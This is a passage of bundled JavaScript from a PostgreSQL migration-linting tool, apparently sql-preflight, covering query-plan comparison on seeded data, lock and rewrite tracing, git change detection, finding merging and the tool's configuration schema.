        this.#serverMajor = serverMajor;
        const { seed } = this.#options;
        const report = await seedDatabase(session, {
          tables: this.#sizes(),
          ...seed.maxRows !== void 0 ? { maxRows: seed.maxRows } : {},
          ...seed.maxTotalRows !== void 0 ? { maxTotalRows: seed.maxTotalRows } : {},
          ...seed.defaultRows !== void 0 ? { defaultRows: seed.defaultRows } : {},
          ...seed.randomSeed !== void 0 ? { seed: seed.randomSeed } : {},
          ...seed.skew !== void 0 ? { skew: seed.skew } : {},
          userSeedFiles: seed.files,
          progress: this.#options.progress
        });
        this.#recordSeed(report);
        await this.#applyStats(session);
      }
      /** Rows per table: the config's sizes, and the statistics file's for the tables the config does not size. */
      #sizes() {
        return { ...this.#options.stats ? seedTargets(this.#options.stats) : {}, ...this.#options.tables };
      }
      /** Plans every query on the schema before the change. */
      async planBase(session) {
        for (const [i, planned] of this.#planned.entries()) {
          this.#options.progress.step(i, this.#planned.length, `${planned.file.path}: ${label(planned.query)}`);
          planned.base = await this.#plan(session, planned);
        }
      }
      /**
       * Fills the tables the change created, refreshes the statistics of the tables it rewrote, plans every query
       * again and reports what the change broke or made slower, then checks the plans of the change's own queries.
       */
      async planChanged(session, traced) {
        const refill = await seedDatabase(session, {
          tables: this.#sizes(),
          ...this.#options.seed.maxRows !== void 0 ? { maxRows: this.#options.seed.maxRows } : {},
          // The change's new tables share what is left of the run's budget.
          maxTotalRows: Math.max((this.#options.seed.maxTotalRows ?? DEFAULT_MAX_TOTAL_ROWS) - this.#seed.rows, 0),
          analyzeKept: false
        });
        this.#recordSeed(refill);
        const rewritten = new Set(traced.flatMap((t) => t.traces.flatMap((trace) => trace?.rewrites ?? [])));
        for (const relation of rewritten) {
          await session.query(`ANALYZE ${relation}`).catch((error) => {
            if (error instanceof ProviderError) throw error;
          });
        }
        if (rewritten.size > 0) await this.#applyStats(session, false);
        const statements = traced.flatMap((t) => t.file.statements.map((s) => ({ file: t.file.path, index: s.index, stmt: { [s.type]: s.node } })));
        this.#planned.push(...backfills(traced));
        const regressed = [];
        for (const [i, planned] of this.#planned.entries()) {
          this.#options.progress.step(i, this.#planned.length, `${planned.file.path}: ${label(planned.query)}`);
          planned.after = await this.#plan(session, planned);
          const { base, after } = planned;
          if (base?.status === "planned" && after.status === "failed") {
            const cause = findBreakingStatement(after.message, statements);
            this.#broken(planned, after, cause && traced.find((t) => t.file.path === cause.file), cause?.index);
          } else if (base?.status === "planned" && after.status === "planned") {
            const [regression] = comparePlans(base.explain, after.explain, this.#ruleOptions("plan-regression"));
            if (regression) {
              const finding = this.#regression(planned, regression, traced);
              if (finding) regressed.push({ planned, regression, finding });
            }
          }
        }
        await this.#checkChangedQueries(session, regressed);
      }
      result() {
        const summary = (plan) => {
          if (!plan) return void 0;
          if (plan.status === "planned") return { status: "planned", cost: plan.explain.Plan["Total Cost"] ?? 0, generic: plan.generic, analyzed: plan.analyzed };
          return plan.status === "failed" ? { status: "failed", message: plan.message } : { status: "skipped", message: plan.reason };
        };
        const queries = this.#planned.map((planned) => {
          const { changedFile, base, after } = planned;
          return {
            ...this.#where(planned).evidence,
            changed: changedFile,
            ...base ? { before: summary(base) } : {},
            ...after ? { after: summary(after) } : {}
          };
        });
        return { findings: this.#findings, queries, seed: this.#seed, notes: this.#notes };
      }
      /** With --analyze a query runs (rolled back); one the guard refuses is only planned, which runs nothing. */
      async #plan(session, planned) {
        if (this.#options.analyze && planned.refusal === void 0) planned.refusal = refusalOf3(planned.query) ?? null;
        return planQuery(session, planned.query, { serverMajor: this.#serverMajor, analyze: this.#options.analyze && !planned.refusal });
      }
      #recordSeed(report) {
        const known = new Set(this.#seed.tables.map((t) => t.table));
        const tables = report.tables.filter((t) => !known.has(t.table)).map((t) => ({ table: t.table, status: t.status, rows: t.rows, ...t.note ? { note: t.note } : {} }));
        this.#seed = { ...this.#seed, rows: this.#seed.rows + report.rows, ms: Math.round(this.#seed.ms + report.ms), tables: [...this.#seed.tables, ...tables] };
        if (report.scaled) {
          const { requested, cap } = report.scaled;
          this.#notes.push(
            `Seeding: the tables' sizes add up to ${requested.toLocaleString("en-US")} rows, more than seed.max-total-rows (${cap.toLocaleString("en-US")}), so each table got proportionally fewer; raise it in .sql-preflight.yml for plans at a larger scale.`
          );
        }
        for (const problem of report.problems) {
          if (problem.kind === "seed-file") {
            const file = this.#options.seed.files.find((f) => f.path === problem.file);
            const offset = problem.offset ?? 0;
            this.#add("base-migration-failed", file.path, new LineIndex(file.text), { start: offset, end: offset }, `The seed SQL failed: ${problem.message}.`, file.text);
          } else {
            this.#notes.push(problem.kind === "table" ? `Seeding ${problem.table}: ${problem.message}.` : `Seeding: ${problem.message}.`);
          }
        }
      }
      async #applyStats(session, note = true) {
        if (!this.#options.stats) return;
        const applied = await applyStats(session, this.#options.stats, this.#serverMajor);
        this.#seed.statistics = { mode: applied.mode, tables: applied.tables.length };
        if (!note) return;
        this.#notes.push(...applied.notes, ...applied.problems.map((p) => `Statistics of ${p.table}: ${p.message}.`));
      }
      #ruleOptions(id) {
        const rule = this.#options.rules.get(id);
        return { ...rule?.meta.defaultOptions, ...this.#options.ruleSettings[id]?.options };
      }
      /** The finding's severity from the config, or undefined when the rule is off. */
      #severity(id) {
        const rule = this.#options.rules.get(id);
        const severity = this.#options.ruleSettings[id]?.severity ?? rule?.meta.severity;
        return !rule || severity === "off" ? void 0 : severity;
      }
      /** Adds a finding of the explain phase; the fingerprint is the query's or statement's text, not the costs the message quotes. */
      #add(id, path3, lines, range2, message, identity, extra = {}) {
        const severity = this.#severity(id);
        if (!severity) return void 0;
        const rule = this.#options.rules.get(id);
        const finding = {
          ...toFinding(id, severity, path3, lines, range2, { message, ...extra.help ? { help: extra.help } : {}, ...extra.evidence ? { evidence: extra.evidence } : {} }, void 0, rule),
          source: "explain",
          fingerprint: fingerprint(id, path3, identity, "")
        };
        if (extra.statement !== void 0) finding.statement = extra.statement;
        this.#findings.push(finding);
        return finding;
      }
      /** Where a query is, for messages: `db/queries/orders.sql:3 (GetOrder)`. */
      #where(planned) {
        const line = planned.file.lines.position(planned.query.range.start).line;
        const name = planned.query.name;
        const evidence2 = { file: planned.file.path, line, ...name ? { name } : {} };
        return { text: queryLocation(evidence2), evidence: evidence2 };
      }
      #broken(planned, after, causeFile, causeIndex) {
        const where = this.#where(planned);
        const evidence2 = { query: where.evidence, error: { message: after.message, ...after.code ? { code: after.code } : {} } };
        if (causeFile && causeIndex !== void 0) {
          const statement = causeFile.file.statements[causeIndex];
          this.#add(
            "query-broken-by-change",
            causeFile.file.path,
            causeFile.file.lines,
            statement.range,
            `This statement breaks the query at ${where.text}, which works before the change: PostgreSQL now rejects it with "${after.message.replace(/\.$/, "")}".`,
            `${statement.text}\0${planned.query.sql}`,
            { evidence: evidence2, statement: causeIndex }
          );
          return;
        }
        this.#add(
          "query-broken-by-change",
          planned.file.path,
          planned.file.lines,
          this.#errorRange(planned, after.position),
          `This query works on the schema before the change and fails after it: ${sentence2(after.message)}`,
          planned.query.sql,
          { evidence: evidence2 }
        );
      }
      /**
       * A regression is reported where the reviewer of the migration sees it: on the statement that dropped an index
       * the plan before the change used, else the first one that rewrote or locked the relation whose scan got worse;
       * on the query when no statement of the change touched it.
       */
      #regression(planned, regression, traced) {
        const where = this.#where(planned);
        const evidence2 = { query: where.evidence, ...regression.evidence };
        const base = planned.base?.status === "planned" ? planned.base.explain : void 0;
        const usedIndexes = new Set(base ? walkPlan(base.Plan).flatMap((v) => v.node["Index Name"] ?? []) : []);
        const relation = regression.evidence.relation;
        const statements = traced.flatMap((t) => t.file.statements.map((statement) => ({ t, statement, trace: t.traces[statement.index] })));
        const cause = statements.find(({ statement }) => droppedIndexes(statement).some((name) => usedIndexes.has(name))) ?? statements.find(({ trace }) => relation !== void 0 && trace && !trace.error && trace.rewrites.includes(relation)) ?? statements.find(({ trace }) => relation !== void 0 && trace && !trace.error && trace.locks.some((l) => l.relation === relation));
        if (cause) {
          const { t, statement } = cause;
          return this.#add("plan-regression", t.file.path, t.file.lines, statement.range, `The query at ${where.text} gets a worse plan after this statement: ${regression.message}`, `${statement.text}\0${planned.query.sql}`, {
            evidence: evidence2,
            statement: statement.index
          });
        }
        return this.#add("plan-regression", planned.file.path, planned.file.lines, planned.query.range, `This query gets a worse plan after the change: ${regression.message}`, planned.query.sql, { evidence: evidence2 });
      }
      /** The plan rules, failures, skipped statements and index advice for the queries of the change's query files. */
      async #checkChangedQueries(session, regressed) {
        const allRules = [...this.#options.rules.values()];
        const rows2 = await tableRows(session);
        const advisor = new IndexAdvisor(session);
        const advised = /* @__PURE__ */ new Map();
        const remedied = /* @__PURE__ */ new Map();
        for (const [i, planned] of this.#planned.entries()) {
          const { after, query } = planned;
          const key = String(i);
          const regression = regressed.find((r) => r.planned === planned);
          if (regression && after?.status === "planned") {
            advisor.consider(key, after.explain, () => this.#replan(session, query));
            advised.set(key, planned);
            remedied.set(planned, [{ finding: regression.finding, table: regression.regression.evidence.relation, regression: true }]);
          }
          if (!planned.changedFile || !after) continue;
          const where = this.#where(planned);
          const { lines } = planned.file;
          if (planned.refusal) {
            this.#add("unsafe-statement-refused", planned.file.path, lines, this.#errorRange(planned, planned.refusal.offset), `${refusalMessage(planned.refusal)}: under --analyze it was only planned`, query.sql);
          }
          if (after.status === "skipped") {
            this.#notes.push(`${where.text}: not planned: ${after.reason}`);
          } else if (after.status === "failed" && planned.backfill) {
            this.#notes.push(`${where.text}: not planned on the schema after the change: ${sentence2(after.message)}`);
          } else if (after.status === "failed") {
            if (planned.base?.status === "planned") continue;
            this.#add("query-plan-failed", planned.file.path, lines, this.#errorRange(planned, after.position), `PostgreSQL cannot plan this query on the schema after the change: ${sentence2(after.message)}`, query.sql, {
              evidence: { query: where.evidence, error: { message: after.message, ...after.code ? { code: after.code } : {} } }
            });
          } else {
            const rules2 = planned.backfill ? allRules.filter((r) => BACKFILL_RULES.has(r.meta.id)) : allRules;
            for (const found of checkPlan(after.explain, rules2, { ruleSettings: this.#options.ruleSettings, tableRows: ({ schema, name }) => rows2.get(`${schema ?? "public"}.${name}`) })) {
              const table = nodeTable(found.evidence.plan.node);
              if (regression && table !== void 0 && table === regression.regression.evidence.relation) continue;
              const finding = this.#add(found.ruleId, planned.file.path, lines, query.range, found.message, query.sql, { help: found.help, evidence: { query: where.evidence, ...found.evidence } });
              if (finding) remedied.set(planned, [...remedied.get(planned) ?? [], { finding, table, regression: false }]);
            }
            if (!advised.has(key) && !planned.backfill) {
              advisor.consider(key, after.explain, () => this.#replan(session, query));
              advised.set(key, planned);
            }
          }
        }
        if (advised.size === 0) return;
        for (const [key, suggestions] of await advisor.run()) {
          const planned = advised.get(key);
          const remedies = remedied.get(planned) ?? [];
          for (const suggestion of suggestions) {
            const remedy = remedies.find((r) => r.table === suggestion.table);
            if (remedy) {
              remedies.splice(remedies.indexOf(remedy), 1);
              const { finding } = remedy;
              finding.help = remedy.regression ? `${indexHelp(suggestion)}
${finding.help ?? ""}`.trim() : indexHelp(suggestion);
              finding.evidence = { ...finding.evidence, index: suggestion };
              continue;
            }
            if (suggestion.beforeCost - suggestion.afterCost < MIN_SAVED_COST) continue;
            const where = this.#where(planned);
            this.#add(
              "index-suggestion",
              planned.file.path,
              planned.file.lines,
              planned.query.range,
              `An index on ${suggestion.table} (${suggestion.columns.join(", ")}) cuts this query's estimated cost from ${formatCost(suggestion.beforeCost)} to ${formatCost(suggestion.afterCost)} on the seeded data.`,
              `${planned.query.sql}\0${suggestion.statement}`,
              { help: `Create it in a migration of its own, outside a transaction block:
${suggestion.statement}`, evidence: { query: where.evidence, index: suggestion } }
            );
          }
        }
      }
      /** The advisor replans inside its own transaction: estimates only, so that no candidate runs the query. */
      async #replan(session, query) {
        const plan = await planQuery(session, query, { serverMajor: this.#serverMajor });
        return plan.status === "planned" ? plan.explain : void 0;
      }
      /**
       * The file range of a failure at `position` in query.sql. Offsets agree with the file up to the first place
       * where sqlc's parameters were rewritten; a position past it points at the query's start.
       */
      #errorRange({ query, file }, position) {
        if (query.problem) return query.problem.range;
        if (position === void 0) return query.range;
        const original = file.lines.bytes.subarray(query.range.start, query.range.end);
        const sent = Buffer.from(query.sql, "utf8");
        let same = 0;
        while (same < original.length && same < sent.length && original[same] === sent[same]) same++;
        const at = position < same || sent.equals(original) ? query.range.start + position : query.range.start;
        return { start: at, end: at };
      }
    };
    BACKFILL_RULES = /* @__PURE__ */ new Set(["cartesian-product", "repeated-inner-scan"]);
    MIN_SAVED_COST = 100;
  }
});

// src/check/dynamic.ts
async function runDynamic(sets, options) {
  const traced = [];
  const findings = [];
  let database;
  let explained;
  const report = (ruleId, path3, text2, range2, message, statement) => {
    const rule = options.rules.get(ruleId);
    if (!rule) return;
    findings.push({ ...toFinding(ruleId, rule.meta.severity, path3, new LineIndex(text2), range2, { message }, void 0, rule), ...statement !== void 0 ? { statement } : {} });
  };
  const failureRange = (failure2, fallback) => {
    if (failure2.offset !== void 0) return { start: failure2.offset, end: failure2.offset };
    return fallback ?? { start: 0, end: 0 };
  };
  const reportReplay = (file, failure2, failed2, statement) => {
    if (failure2.refused) report("unsafe-statement-refused", file.path, file.text, failureRange(failure2), failure2.message, statement);
    else report("base-migration-failed", file.path, file.text, failureRange(failure2), `${failed2}: ${failure2.message}.`, statement);
  };
  const problems = [];
  for (const set of sets) {
    try {
      await runSet(set);
    } catch (error) {
      if (!(error instanceof ProviderError || error instanceof TraceError)) throw error;
      problems.push(
        database ? `The database checks stopped: ${error.message}. Results from before that point are reported; the rest are missing.` : `The database checks did not run: ${error.message}. The static findings are reported.`
      );
      break;
    }
  }
  return {
    traced,
    findings,
    problems,
    database: database ?? { provider: "none", serverVersion: "", reason: "no database could be used" },
    ...explained ? { explain: explained.result() } : {}
  };
  function reportFailure(file, analyzed2, failure2) {
    const statement = analyzed2.statements[failure2.statement];
    const timeoutSeconds = (options.database.statementTimeoutMs ?? DEFAULT_STATEMENT_TIMEOUT_MS) / 1e3;
    if (failure2.refused) {
      report("unsafe-statement-refused", file.path, file.text, failureRange({ offset: failure2.position }, statement?.range), failure2.message, failure2.statement);
      return;
    }
    const message = failure2.code === QUERY_CANCELED ? `This statement ran longer than the ${timeoutSeconds} s statement timeout and was cancelled; raise \`statement-timeout\` in .sql-preflight.yml if that is expected at the seeded size.` : `PostgreSQL rejected this statement: ${failure2.message}.`;
    report("migration-failed", file.path, file.text, failureRange({ offset: failure2.position }, statement?.range), message, failure2.statement);
  }
  async function traceOrTimeout(tracer, file, analyzed2) {
    try {
      return await tracer.traceFile(analyzed2);
    } catch (error) {
      if (error instanceof TraceError && error.at?.code === QUERY_CANCELED) {
        reportFailure(file, analyzed2, { statement: error.at.statement, message: error.message, code: QUERY_CANCELED });
      }
      throw error;
    }
  }
  async function runSet(set) {
    const { provider, reason } = await openProvider(options.database);
    database ??= { provider: provider.kind, serverVersion: provider.serverVersion.full, reason };
    if (traced.length === 0) options.progress.note(`Database: ${reason}.`);
    try {
      const session = await provider.open();
      await options.progress.phase("replay", async () => {
        for (const failure2 of await applySetup(session, options.setup)) {
          reportReplay(options.setup.find((s) => s.path === failure2.file), failure2, "The setup SQL failed");
        }
        for (const [i, migration] of set.existing.entries()) {
          options.progress.step(i, set.existing.length, migration.path);
          const failure2 = await applyMigration(session, migration);
          if (failure2) reportReplay(migration, failure2, "Replaying this existing migration failed", failure2.statement);
        }
        options.progress.step(set.existing.length, set.existing.length, "");
      });
      const explain = set.explain && new ExplainRun(set.explain);
      if (explain) {
        explained = explain;
        await options.progress.phase("seed", () => explain.seed(session, provider.serverVersion.major));
        await options.progress.phase("explain before", () => explain.planBase(session));
      }
      const tracedBefore = traced.length;
      await options.progress.phase("trace", async () => {
        const tracer = await createTracer(provider, session);
        const calibration = new Calibration(session);
        try {
          await traceChange(set, tracer, session, calibration);
        } finally {
          await tracer.close();
        }
      });
      if (explain) await options.progress.phase("explain after", () => explain.planChanged(session, traced.slice(tracedBefore)));
      await session.close();
    } finally {
      await provider.dispose();
    }
  }
  async function traceChange(set, tracer, session, calibration) {
    for (const [i, { file, analyzed: analyzed2 }] of set.changed.entries()) {
      options.progress.step(i, set.changed.length, file.path);
      if (!analyzed2) continue;
      const before = file.down ? await schemaFingerprint(session) : void 0;
      const result2 = await traceOrTimeout(tracer, file, analyzed2);
      const estimates = await estimate2(session, analyzed2, result2.statements, options.tables, calibration);
      traced.push({ file: analyzed2, traces: result2.statements, estimates });
      if (result2.failure) {
        reportFailure(file, analyzed2, result2.failure);
        continue;
      }
      if (before !== void 0) {
        const down = await checkDownMigration(session, file, before);
        if (!down.ok) {
          const detail = down.failure ? `the down migration failed: ${down.failure.message}` : `after the down migration the schema differs from before: ${down.difference.join("; ")}`;
          report("down-migration-mismatch", file.path, file.text, { start: 0, end: 0 }, `Applying this migration and then its down part does not restore the schema: ${detail}.`);
        }
      }
    }
    options.progress.step(set.changed.length, set.changed.length, "");
  }
}
async function estimate2(session, file, traces, tables, calibration) {
  const estimates = /* @__PURE__ */ new Map();
  if (Object.keys(tables).length === 0) return estimates;
  for (const [index, trace] of traces.entries()) {
    if (!trace || trace.error) continue;
    const indexBuildOn = file.statements[index].type === "IndexStmt" ? trace.locks.find((l) => l.mode === "ShareLock")?.relation : void 0;
    const relations = [...trace.rewrites, ...trace.validated.map((v) => v.relation), ...indexBuildOn ? [indexBuildOn] : []];
    if (relations.length === 0) continue;
    const sizes = await tableSizes(session, relations);
    const found = await estimateStatement(trace, indexBuildOn, sizes, tables, calibration);
    if (found.length) estimates.set(index, found);
  }
  return estimates;
}
var init_dynamic = __esm({
  "src/check/dynamic.ts"() {
    "use strict";
    init_lint();
    init_source();
    init_db();
    init_replay();
    init_trace();
    init_estimate();
    init_explain2();
  }
});

// src/check/git.ts
import { execFile } from "node:child_process";
import { promisify } from "node:util";
async function git(cwd, args) {
  try {
    const { stdout } = await run("git", args, { cwd, maxBuffer: 64 * 1024 * 1024 });
    return stdout;
  } catch (error) {
    const stderr = error.stderr?.trim();
    throw new UsageError(`git ${args.join(" ")} failed${stderr ? `: ${stderr.split("\n")[0]}` : ""}.`);
  }
}
async function changedSince(cwd, base) {
  const root = (await git(cwd, ["rev-parse", "--show-toplevel"])).trim();
  await git(cwd, ["rev-parse", "--verify", "--quiet", `${base}^{commit}`]).catch(() => {
    throw new UsageError(`--base ${base} is not a commit in this repository (fetch it first, e.g. with fetch-depth: 0 in actions/checkout).`);
  });
  const output = await git(root, ["diff", "--name-status", "--no-renames", "-z", base, "--"]);
  const fields = output.split("\0").filter(Boolean);
  const changed = /* @__PURE__ */ new Set();
  const modified = /* @__PURE__ */ new Set();
  for (let i = 0; i + 1 < fields.length; i += 2) {
    const status = fields[i];
    const path3 = fields[i + 1];
    if (status === "A" || status === "M" || status === "T") changed.add(path3);
    if (status === "M" || status === "T") modified.add(path3);
  }
  for (const path3 of (await git(root, ["ls-files", "--others", "--exclude-standard", "-z"])).split("\0").filter(Boolean)) changed.add(path3);
  return { changed, modified, root };
}
async function fileAt(root, ref, path3) {
  try {
    const { stdout } = await run("git", ["show", `${ref}:${path3}`], { cwd: root, maxBuffer: 256 * 1024 * 1024 });
    return stdout;
  } catch {
    return void 0;
  }
}
var run;
var init_git = __esm({
  "src/check/git.ts"() {
    "use strict";
    init_errors();
    run = promisify(execFile);
  }
});

// src/check/merge.ts
function mergeTrace(findings, traced, rules2) {
  const byPath = new Map(traced.map((t) => [t.file.path, t]));
  const kept = [];
  const refuted = [];
  for (const finding of findings) {
    const file = byPath.get(finding.file);
    const trace = finding.statement === void 0 ? void 0 : file?.traces[finding.statement];
    if (!file || !trace || trace.error) {
      kept.push(finding);
      continue;
    }
    const claim = rules2.get(finding.ruleId)?.meta.verifiedBy;
    const reason = claim && refutation(claim, trace);
    const estimates = file.estimates.get(finding.statement);
    const withEvidence = {
      ...finding,
      message: finding.message + impactSentence(trace, estimates),
      evidence: { ...finding.evidence, ...evidence(trace, finding.statement, estimates) }
    };
    if (reason) refuted.push({ finding: withEvidence, reason });
    else kept.push(withEvidence);
  }
  for (const { file, traces, estimates } of traced) {
    traces.forEach((trace, index) => {
      if (!trace || trace.error) return;
      const statement = file.statements[index];
      const explained = new Set(
        kept.filter((f) => f.file === file.path && f.statement === index).map((f) => rules2.get(f.ruleId)?.meta.verifiedBy)
      );
      const estimate3 = estimates.get(index);
      if (trace.rewrites.length > 0 && !explained.has("rewrite")) {
        const rule = rules2.get("table-rewrite");
        if (rule) {
          kept.push(
            toFinding(rule.meta.id, rule.meta.severity, file.path, file.lines, statement.range, {
              message: `${describeRewrite(trace)}.${impactSentence(trace, estimate3)}`,
              evidence: evidence(trace, index, estimate3)
            }, statement, rule)
          );
        }
      }
      const blockingScans = trace.validated.filter((v) => heldMode(trace, v.relation, (mode) => blockedOperations(mode).writes));
      if (blockingScans.length > 0 && !explained.has("validation") && !explained.has("rewrite")) {
        const rule = rules2.get("validation-scan");
        if (rule) {
          const what = blockingScans.map((v) => `${v.what} on ${v.relation}`).join(", ");
          const mode = strongestLock(trace, blockingScans[0].relation);
          kept.push(
            toFinding(rule.meta.id, rule.meta.severity, file.path, file.lines, statement.range, {
              message: `Validates ${what} by scanning every row under ${lockName(mode)}, which ${describeBlocking(mode)} until the scan ends.${impactSentence(trace, estimate3)}`,
              evidence: evidence(trace, index, estimate3)
            }, statement, rule)
          );
        }
      }
    });
  }
  return { findings: kept, refuted };
}
function refutation(claim, trace) {
  switch (claim) {
    case "rewrite":
      return trace.rewrites.length === 0 ? "the statement ran without rewriting any existing table or index" : void 0;
    case "validation":
      return trace.validated.length === 0 ? "the statement ran without a validation scan of any existing table" : void 0;
    case "lock":
      if (trace.observedBy === "none") return void 0;
      return trace.locks.some((l) => isDisruptive(l.mode)) ? void 0 : "the statement ran without taking a lock that blocks reads or writes on an existing table";
  }
}
function evidence(trace, statement, estimates) {
  return {
    trace: { statement },
    locks: trace.locks,
    rewrites: trace.rewrites,
    validated: trace.validated,
    durationMs: trace.durationMs,
    ...trace.blocked ? { blocked: trace.blocked } : {},
    ...estimates?.length ? { estimates } : {}
  };
}
function heldMode(trace, relation, test) {
  const mode = strongestLock(trace, relation);
  return mode !== void 0 && test(mode);
}
function strongestLock(trace, relation) {
  const modes = trace.locks.filter((l) => l.relation === relation).map((l) => l.mode);
  return modes.sort((a, b) => LOCK_MODES.indexOf(b) - LOCK_MODES.indexOf(a))[0];
}
function describeRewrite(trace) {
  const tables = trace.rewrites;
  const mode = tables.map((t) => strongestLock(trace, t)).find((m) => m !== void 0) ?? "AccessExclusiveLock";
  return `Rewrites ${tables.join(", ")} under ${lockName(mode)}, which ${describeBlocking(mode)} while every row is copied`;
}
function impactSentence(trace, estimates) {
  const longest = estimates?.slice().sort((a, b) => b.seconds - a.seconds)[0];
  if (!longest) return "";
  const mode = strongestLock(trace, longest.relation) ?? "AccessExclusiveLock";
  const verb = { rewrite: "Rewrites", scan: "Scans", "index build": "Indexes" }[longest.operation];
  return ` ${verb} ${longest.relation} (est. ${formatCount2(longest.rows)} rows) under ${lockName(mode)}: ${describeBlocking(mode)} for roughly ${formatDuration(longest.seconds)}.`;
}
function formatCount2(rows2) {
  if (rows2 >= 1e9) return `${round2(rows2 / 1e9)}B`;
  if (rows2 >= 1e6) return `${round2(rows2 / 1e6)}M`;
  if (rows2 >= 1e3) return `${round2(rows2 / 1e3)}k`;
  return String(rows2);
}
function formatDuration(seconds2) {
  if (seconds2 < 1) return "under a second";
  if (seconds2 < 90) return `${Math.round(seconds2)} seconds`;
  if (seconds2 < 90 * 60) return `${Math.round(seconds2 / 60)} minutes`;
  return `${round2(seconds2 / 3600)} hours`;
}
function round2(value) {
  return value >= 10 ? String(Math.round(value)) : value.toFixed(1).replace(/\.0$/, "");
}
var init_merge = __esm({
  "src/check/merge.ts"() {
    "use strict";
    init_locks();
    init_lint();
  }
});

// src/config/suggest.ts
function closest(word2, candidates) {
  let best;
  let bestDistance = Math.max(2, Math.floor(word2.length / 3)) + 1;
  for (const candidate of candidates) {
    const distance = editDistance(word2.toLowerCase(), candidate.toLowerCase());
    if (distance < bestDistance) {
      best = candidate;
      bestDistance = distance;
    }
  }
  return best;
}
function editDistance(a, b) {
  let previous = Array.from({ length: b.length + 1 }, (_, i) => i);
  for (let i = 1; i <= a.length; i++) {
    const current = [i];
    for (let j = 1; j <= b.length; j++) {
      current[j] = Math.min(previous[j] + 1, current[j - 1] + 1, previous[j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
    }
    previous = current;
  }
  return previous[b.length];
}
var init_suggest = __esm({
  "src/config/suggest.ts"() {
    "use strict";
  }
});

// schemas/config.schema.json
var config_schema_default;
var init_config_schema = __esm({
  "schemas/config.schema.json"() {
    config_schema_default = {
      $schema: "http://json-schema.org/draft-07/schema#",
      $id: "https://github.com/sql-preflight/sql-preflight/blob/main/schemas/config.schema.json",
      title: "sql-preflight configuration (.sql-preflight.yml)",
      type: "object",
      additionalProperties: false,
      properties: {
        "postgres-version": {
          description: "The major version of PostgreSQL that runs in production. Rules whose answer depends on the version use it. Default 17.",
          type: "integer",
          minimum: 10,
          maximum: 19
        },
        "fail-on": {
          description: "The lowest severity that makes the run fail (exit code 1). Default error.",
          enum: [
            "error",
            "warning",
            "notice",
            "never"
          ]
        },
        migrations: {
          description: "Migration folders (or files, or globs), each with an optional format and transaction mode. Used when no paths are given on the command line.",
          type: "array",
          items: {
            anyOf: [
              {
                type: "string",
                description: "A folder, file or glob; format and transaction mode are detected."
              },
              {
                type: "object",
                additionalProperties: false,
                required: [
                  "path"
                ],
                properties: {
                  path: {
                    type: "string",
                    description: "A folder, file or glob, relative to the config file."
                  },
                  format: {
                    description: "The migration tool that runs these files; auto detects it from file names and markers.",
                    enum: [
                      "auto",
                      "plain",
                      "golang-migrate",
                      "goose",
                      "dbmate",
                      "flyway",
                      "prisma",
                      "drizzle",
                      "diesel",
                      "supabase"
                    ]
                  },
                  transaction: {
                    description: "How the runner executes each file: transaction (wrapped in BEGIN/COMMIT), implicit (sent as one multi-statement query), none (each statement commits on its own). auto uses the tool's default and its per-file opt-outs.",
                    enum: [
                      "auto",
                      "transaction",
                      "implicit",
                      "none"
                    ]
                  }
                }
              }
            ]
          }
        },
        queries: {
          description: "Query files to plan with EXPLAIN during `check`, before and after the change, on seeded data. Globs, folders (every .sql file below them) or files, relative to the config file. A file with sqlc annotations (-- name: GetOrder :one) holds one query per annotation, with its named parameters (@id, sqlc.arg(id), sqlc.narg(id), sqlc.slice(ids)) rewritten to $1..$n; any other file holds one query per statement.",
          type: "array",
          items: {
            type: "string"
          }
        },
        ignore: {
          description: "Globs of files never to analyse, relative to the config file.",
          type: "array",
          items: {
            type: "string"
          }
        },
        rules: {
          description: "Per-rule settings: off, a severity, or { severity, options }.",
          type: "object",
          additionalProperties: {
            anyOf: [
              {
                enum: [
                  "off",
                  "error",
                  "warning",
                  "notice"
                ]
              },
              {
                type: "object",
                additionalProperties: false,
                properties: {
                  severity: {
                    enum: [
                      "off",
                      "error",
                      "warning",
                      "notice"
                    ]
                  },
                  options: {
                    type: "object"
                  }
                }
              }
            ]
          }
        },
        setup: {
          description: "SQL files run before the existing migrations when `check` rebuilds the schema: roles, extensions and schemas that your databases get outside the migrations. Relative to the config file.",
          type: "array",
          items: {
            type: "string"
          }
        },
        seed: {
          description: "The data `check` plans queries on. After the existing migrations are replayed, the seed files run, then every table that is still empty gets generated rows: as many as `tables` gives for it (or the statistics file), at most max-rows, default-rows for a table without a size.",
          type: "object",
          additionalProperties: false,
          properties: {
            files: {
              description: "SQL files that insert your own rows, run in order after the replay, each in a transaction of its own; tables they fill are not generated. Relative to the config file.",
              type: "array",
              items: {
                type: "string"
              }
            },
            "max-rows": {
              description: "Rows per table at most (default 1000000).",
              type: "integer",
              minimum: 0
            },
            "max-total-rows": {
              description: "Rows in all tables together at most (default 1000000); past it every table gets proportionally fewer. PGlite holds the database in memory, so this bounds its memory.",
              type: "integer",
              minimum: 0
            },
            "default-rows": {
              description: "Rows for a table that `tables` gives no size for (default 10000).",
              type: "integer",
              minimum: 0
            },
            "random-seed": {
              description: "The same seed gives the same rows (default 1).",
              type: "integer"
            },
            skew: {
              description: "Some parents get many children and the first enum values are the most common, as in real data (default true).",
              type: "boolean"
            }
          }
        },
        tables: {
          description: "Production sizes of tables, by name (orders) or schema-qualified name (billing.invoices). `check` uses them to estimate how long a rewrite, scan or index build would hold its lock in production.",
          type: "object",
          additionalProperties: {
            type: "object",
            additionalProperties: false,
            required: [
              "rows"
            ],
            properties: {
              rows: {
                type: "integer",
                minimum: 0,
                description: "The number of rows in production."
              }
            }
          }
        },
        "statement-timeout": {
          description: "Seconds a single statement may run during `check` before it is cancelled and reported (default 30).",
          type: "number",
          exclusiveMinimum: 0
        },
        "run-timeout": {
          description: "Seconds the database part of `check` (replay, trace, seeding, EXPLAIN) may take in all before it is stopped; what finished is reported and the rest is named as not checked (default: no limit).",
          type: "number",
          exclusiveMinimum: 0
        }
      }
    };
  }
});

// src/config/load.ts
import { existsSync as existsSync2, readFileSync } from "node:fs";
import { dirname, join as join2, resolve as resolve2 } from "node:path";
import { Ajv as Ajv2 } from "ajv";
import { isMap, isPair, isScalar, isSeq, LineCounter, parseDocument } from "yaml";
function validate2(data) {
  validator2 ??= new Ajv2({ allErrors: true }).compile(config_schema_default);
  return validator2(data);
}
function findConfig(cwd) {
  for (let dir = resolve2(cwd); ; dir = dirname(dir)) {
    for (const name of CONFIG_FILE_NAMES) {
      const candidate = join2(dir, name);
      if (existsSync2(candidate)) return candidate;
    }
    if (dirname(dir) === dir) return void 0;
  }
}
function loadConfig(file, rules2, cwd) {
  if (!file) {
